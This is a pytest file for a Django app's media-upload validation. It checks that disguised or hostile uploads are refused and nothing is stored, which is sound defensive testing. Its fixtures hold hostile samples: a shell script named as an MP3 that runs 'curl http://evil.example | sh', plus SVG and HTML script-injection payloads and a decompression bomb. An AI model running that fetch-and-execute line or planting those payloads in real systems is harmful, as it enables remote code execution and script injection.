"""Hostile uploads, through the "My media" page and the API: each is refused with a clear
message and a 400 (413 for its size), and nothing is stored: no file in storage, no
row, no working copy left behind."""

from __future__ import annotations

import html

import pytest
from django.urls import reverse

from assets.models import MediaAsset
from assets.tests.media_files import named, png_bomb, sparse_file, truncated, upload
from core.testing import assert_error, create_cache_table, token_client

MB = 1024 * 1024

# name -> (make the upload, status, message)
HOSTILE = {
    "extension_disagrees": (
        lambda f, tmp: upload(f["picture.png"], "holiday.jpg"),
        400,
        "The file is named “.jpg” but holds a PNG picture; rename it or upload the file you meant. Nothing was stored.",
    ),
    "svg": (
        lambda f, tmp: named(
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.svg"
        ),
        400,
        "SVG drawings are not accepted (they can carry scripts); upload a JPEG, PNG or WebP picture.",
    ),
    "html": (
        lambda f, tmp: named(b"<!doctype html><html><body><script>alert(1)</script></body></html>", "cat.png"),
        400,
        "That file is a web page (HTML), not a picture, clip or sound; nothing was stored.",
    ),
    "script_named_mp3": (
        lambda f, tmp: named(b"#!/bin/sh\ncurl http://evil.example | sh\n", "song.mp3", "audio/mpeg"),
        400,
        "That file is a script, not a picture, clip or sound; nothing was stored.",
    ),
    "truncated_mp4": (
        lambda f, tmp: truncated(f["clip.mp4"]),
        400,
        "That file is damaged or incomplete (for example cut off while uploading), so Contentizer cannot use it; "
        "nothing was stored.",
    ),
    "sixty_megabytes": (
        lambda f, tmp: upload(sparse_file(tmp / "big.mp4", 60 * MB, f["clip.mp4"].read_bytes()[:4096]), "big.mp4"),
        413,
        "The file is 60 MB; the limit is 50 MB. Nothing was stored.",
    ),
    "decompression_bomb": (
        lambda f, tmp: named(png_bomb(), "bomb.png", "image/png"),
        400,
        "The picture is 30000x30000 pixels; the limit is 40 megapixels.",
    ),
    "empty": (lambda f, tmp: named(b"", "nothing.mp4", "video/mp4"), 400, "The file is empty; nothing was stored."),
}


@pytest.fixture
def existing(owner, media_files):
    """One asset already there: it must be the only row afterwards."""
    from assets.services import asset_ingest_upload

    return asset_ingest_upload(owner=owner, upload=upload(media_files["sound.wav"]))


@pytest.fixture
def nothing_stored(existing, stored_files, job_tmp_root):
    files_before = stored_files()

    def check() -> None:
        assert list(MediaAsset.objects.values_list("pk", flat=True)) == [existing.pk]
        assert stored_files() == files_before
        assert list(job_tmp_root.iterdir()) == []

    return check


@pytest.mark.parametrize("case", list(HOSTILE))
def test_the_page_refuses_a_hostile_upload_and_stores_nothing(
    client, owner, media_files, tmp_path, nothing_stored, case
):
    make, status, message = HOSTILE[case]
    client.force_login(owner)

    response = client.post(reverse("assets-upload"), {"file": make(media_files, tmp_path)})

    assert response.status_code == status
    assert message in html.unescape(response.content.decode())
    nothing_stored()


@pytest.mark.parametrize("case", list(HOSTILE))
def test_the_api_refuses_a_hostile_upload_and_stores_nothing(owner, media_files, tmp_path, nothing_stored, case):
    create_cache_table()
    make, status, message = HOSTILE[case]
    api = token_client(owner)

    response = api.post("/api/v1/assets", {"file": make(media_files, tmp_path)}, format="multipart")

    body = assert_error(response, status, "payload_too_large" if status == 413 else "invalid")
    assert message in body["message"]
    nothing_stored()


def test_an_over_size_upload_is_refused_before_it_reaches_validation(client, owner, media_files, tmp_path, monkeypatch):
    import assets.services

    def must_not_run(**kwargs):
        raise AssertionError("the file reached validation")

    monkeypatch.setattr(assets.services, "asset_ingest_upload", must_not_run)
    client.force_login(owner)
    big = upload(sparse_file(tmp_path / "big.mov", 60 * MB), "big.mov")

    response = client.post(reverse("assets-upload"), {"file": big})

    assert response.status_code == 413
    assert "the limit is 50 MB" in response.content.decode()


def test_a_hostile_clip_for_a_scene_is_refused_and_the_scene_is_unchanged(
    client, owner, make_video, media_files, stored_files
):
    video = make_video(owner)
    scene = video.scenes.get(position=0)
    before = (stored_files(), MediaAsset.objects.count())
    client.force_login(owner)

    response = client.post(
        reverse("videos-scene-clip", kwargs={"code": scene.code}),
        {"clip": named(b"#!/bin/sh\necho hi\n", "clip.mp4"), "clip_audio": "drop"},
    )

    assert response.status_code == 400
    assert "That file is a script" in response.content.decode()
    scene.refresh_from_db()
    assert scene.clip_id is None
    assert (stored_files(), MediaAsset.objects.count()) == before


def test_a_sixty_megabyte_recording_for_a_scene_is_a_413(client, owner, make_video, tmp_path, stored_files):
    video = make_video(owner)
    scene = video.scenes.get(position=0)
    before = (stored_files(), MediaAsset.objects.count())
    client.force_login(owner)

    response = client.post(
        reverse("videos-scene-narration", kwargs={"code": scene.code}),
        {"narration_audio": upload(sparse_file(tmp_path / "talk.wav", 60 * MB), "talk.wav")},
    )

    assert response.status_code == 413
    assert "The file is 60 MB; the limit is 50 MB." in response.content.decode()
    assert (stored_files(), MediaAsset.objects.count()) == before
